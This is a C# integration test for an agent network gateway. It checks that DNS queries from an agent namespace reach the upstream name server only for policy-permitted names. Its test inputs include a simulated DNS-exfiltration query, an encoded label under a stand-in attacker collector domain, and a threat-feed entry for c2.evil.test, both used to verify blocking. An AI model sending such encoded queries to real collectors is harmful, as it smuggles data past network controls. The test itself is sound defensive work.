using System.Net;
using Corral.Gateway.FlowLog;
using Corral.Gateway.Hosting;
using Corral.Gateway.NameService;
using Corral.Gateway.Tests.Support;
using Corral.Policy;
using Corral.Testing;

namespace Corral.Gateway.Tests;

/// <summary>
/// The resolver as an agent namespace meets it: the namespace's resolv.conf (ip netns exec bind-mounts
/// /etc/netns/NAME/resolv.conf) names the gateway, and the upstream is a logging name server in a second namespace at
/// 198.18.k.2. Names the policy refuses must never reach that server. Needs root, ip, python3 and getent.
/// </summary>
public sealed class DnsNamespaceTests(ITestOutputHelper output)
{
    [Fact]
    public async Task An_agent_namespace_resolving_through_the_gateway_never_sends_a_refused_name_upstream()
    {
        NetworkNamespaces.SkipUnlessRootWith("ip", "python3", "getent");
        var k = Random.Shared.Next(1, 250);
        var id = $"{Environment.ProcessId % 10000}{k}";
        var agentNs = $"crl-dnsa-{id}";
        var upstreamNs = $"crl-dnsu-{id}";
        var (vethAgentRoot, vethAgent, vethUpRoot, vethUp) = ($"cda{id}", $"cdb{id}", $"cdc{id}", $"cdd{id}");
        var gatewayIp = $"10.214.{k}.1";
        var upstreamIp = $"198.18.{k}.2";
        var answerIp = $"198.18.{k}.9";
        using var folder = new TempFolder("corral-dns-netns-");
        await using var topology = new NetworkNamespaces();
        await topology.AddAsync(agentNs);
        await topology.AddAsync(upstreamNs);
        await topology.LinkAsync(agentNs, vethAgentRoot, vethAgent, $"{gatewayIp}/30", $"10.214.{k}.2/30");
        await topology.LinkAsync(upstreamNs, vethUpRoot, vethUp, $"198.18.{k}.1/24", $"{upstreamIp}/24");

        var queryLog = folder.File("queries.log");
        topology.Start(upstreamNs, "python3", folder.Write("ns.py", NameServerScript), upstreamIp, answerIp, queryLog);
        for (var i = 0; i < 100 && !File.Exists(queryLog); i++) await Task.Delay(100);
        Assert.True(File.Exists(queryLog), "the logging name server did not start");

        File.WriteAllText(folder.File("p.yaml"), $$"""
            version: 1
            name: dns-netns
            defaultAction: deny
            smartGroups:
              agents: { cidrs: [10.214.{{k}}.0/30] }
              platform: { cidrs: [198.18.{{k}}.0/24] }
            webGroups:
              platform-names: { domains: [login.platform.test, "*.models.platform.test"] }
            threatGroups:
              bad: { feeds: [threats.txt] }
            rules:
              - { name: deny-threats, priority: 1, source: [agents], destination: [bad], action: deny }
              - { name: allow-platform-names, priority: 2, source: [agents], webGroups: [platform-names], action: permit, ports: [443] }
              - { name: allow-platform-addresses, priority: 3, source: [agents], destination: [platform], action: permit, ports: [443] }
              - { name: deny-internet, priority: 10, source: [agents], destination: [public-internet], action: deny }
            dns: { mode: enforce }
            """);
        File.WriteAllText(folder.File("threats.txt"), "c2.evil.test\n");
        var check = PolicyChecker.CheckFile(folder.File("p.yaml"));
        Assert.True(check.Succeeded, string.Join("\n", check.Diagnostics));
        var log = new CollectingFlowLog();
        await using var gateway = new GatewayServer(check.Compiled!, new GatewayOptions
        {
            Listen = new IPEndPoint(IPAddress.Loopback, 0),
            Dns = new DnsOptions { Listen = new IPEndPoint(IPAddress.Parse(gatewayIp), 53), Upstream = new IPEndPoint(IPAddress.Parse(upstreamIp), 53) },
            DialGuard = e => IPAddress.IsLoopback(e.Address),
        }, new CollectingLoggerProvider(), flowLog: log);
        gateway.Start();

        topology.SetResolver(agentNs, $"nameserver {gatewayIp}\noptions timeout:2 attempts:1\n");

        async Task<(int Code, string Out)> Resolve(string name)
        {
            var (code, stdout, stderr) = await NetworkNamespaces.ExecAsync(agentNs, "getent", "ahostsv4", name);
            output.WriteLine($"{name}: {code} {stdout}{stderr}");
            return (code, stdout);
        }
        var platform = await Resolve("login.platform.test");
        var models = await Resolve("eastus.models.platform.test");
        var exfil = await Resolve("mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpiyq.collector.attacker.test");
        var threat = await Resolve("c2.evil.test");

        Assert.Equal(0, platform.Code);
        Assert.Contains(answerIp, platform.Out);
        Assert.Equal(0, models.Code);
        Assert.NotEqual(0, exfil.Code);
        Assert.NotEqual(0, threat.Code);
        var reached = File.ReadAllLines(queryLog);
        output.WriteLine("upstream saw: " + string.Join(", ", reached));
        Assert.Contains("login.platform.test", reached);
        Assert.DoesNotContain(reached, q => q.Contains("attacker") || q.Contains("evil"));
        var refused = log.Records.Where(r => r.Event == FlowEvent.Dns && r.Dns is { Answered: false }).Select(r => r.Host).ToHashSet();
        Assert.Contains("c2.evil.test", refused);
        Assert.Contains(refused, h => h!.EndsWith(".collector.attacker.test"));
        Assert.All(log.Records.Where(r => r.Event == FlowEvent.Dns), r => Assert.Equal(IPAddress.Parse($"10.214.{k}.2"), r.Source.Address));
    }

    /// <summary>A name server that logs each question's name (one a line) and answers it with one A record.</summary>
    private const string NameServerScript = """
        import socket, struct, sys
        address, answer, log = sys.argv[1], sys.argv[2], sys.argv[3]
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((address, 53))
        open(log, "a").close()
        while True:
            q, peer = s.recvfrom(4096)
            at, labels = 12, []
            while q[at]:
                labels.append(q[at + 1:at + 1 + q[at]].decode("ascii", "replace"))
                at += 1 + q[at]
            end = at + 5
            with open(log, "a") as f:
                f.write(".".join(labels).lower() + "\n")
            qtype = struct.unpack(">H", q[at + 1:at + 3])[0]
            header = q[:2] + bytes([0x81, 0x80]) + struct.pack(">HHHH", 1, 1 if qtype == 1 else 0, 0, 0)
            body = q[12:end]
            if qtype == 1:
                body += bytes([0xC0, 0x0C, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]) + socket.inet_aton(answer)
            s.sendto(header + body, peer)
        """;
}
